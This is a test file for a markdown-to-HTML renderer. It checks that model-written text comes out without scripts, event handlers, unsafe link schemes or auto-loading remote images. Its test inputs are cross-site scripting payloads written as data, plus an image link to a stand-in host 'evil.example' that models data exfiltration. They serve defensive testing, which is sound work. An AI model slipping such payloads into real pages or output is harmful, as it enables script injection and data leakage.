"""What a model wrote is shown and never obeyed."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.web.painter.render import render_markdown

ALLOWED = re.compile(
    r"</?(?:p|h[1-6]|ul|ol|li|strong|em|s|code|pre|blockquote|table|thead|tbody|tr|th|td|hr|br|span|a)\b[^<>]*>"
)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![secret](https://evil.example/?d=1)",
        "![x](data:text/html,<script>alert(1)</script>)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        '<https://a.example/"onmouseover=alert(1)>',
        "`<b>`",
        "```html\n<script>alert(1)</script>\n```",
        "```<img>\nx\n```",
        "$<script>alert(1)</script>$",
        '[a](https://a.example "t\\" onmouseover=\\"alert(1)")',
    ],
)
def test_no_markup_but_ours_comes_out(text: str) -> None:
    """No script, no picture from elsewhere, no event handler, no link but to the web or a mail address."""
    html = render_markdown(text)
    assert not re.search(r"<(?!/?(?:p|a|code|pre|span)\b)", html), html
    assert not re.search(r"<[^>]*\son\w+=", html), html
    assert all(url.startswith(("http://", "https://", "mailto:")) for url in re.findall(r'href="([^"]*)', html))


@given(st.text(alphabet="<>&\"'`$*_[]()!#|-~\\: \nabhtps/", max_size=200))
def test_every_tag_is_one_of_a_few(text: str) -> None:
    """Whatever comes in, what comes out is text and a handful of harmless tags."""
    html = render_markdown(text)
    assert "<" not in ALLOWED.sub("", html)


def test_an_image_becomes_a_link_with_its_words() -> None:
    """A reader may open it; the page does not."""
    html = render_markdown("![a chart](https://a.example/c.png)")
    assert html == (
        '<p><a href="https://a.example/c.png" target="_blank" rel="noopener noreferrer nofollow">a chart</a></p>\n'
    )


def test_formulas_are_left_as_they_are_written() -> None:
    """Stars and underscores inside a formula are no emphasis, and prices are no formula."""
    assert render_markdown("$a_1*b_2*c$") == '<p><span class="math">$a_1*b_2*c$</span></p>\n'
    assert render_markdown("from $5 to $10") == "<p>from $5 to $10</p>\n"


def test_a_formula_begins_at_the_last_mark_before_its_end() -> None:
    """So that marks which nothing closes are each looked at once."""
    assert render_markdown("\\(a \\(b\\)").strip() == '<p>(a <span class="math">\\(b\\)</span></p>'
    assert 'class="math"' not in render_markdown("\\(" * 10_000)


def test_code_is_coloured_once_it_is_whole() -> None:
    """While it grows, code is plain: colouring it again with every frame would cost too much."""
    code = "```python\nprint(1)\n```"
    assert '<span class="nb">print</span>' in render_markdown(code)
    assert "<span" not in render_markdown(code, is_final=False)
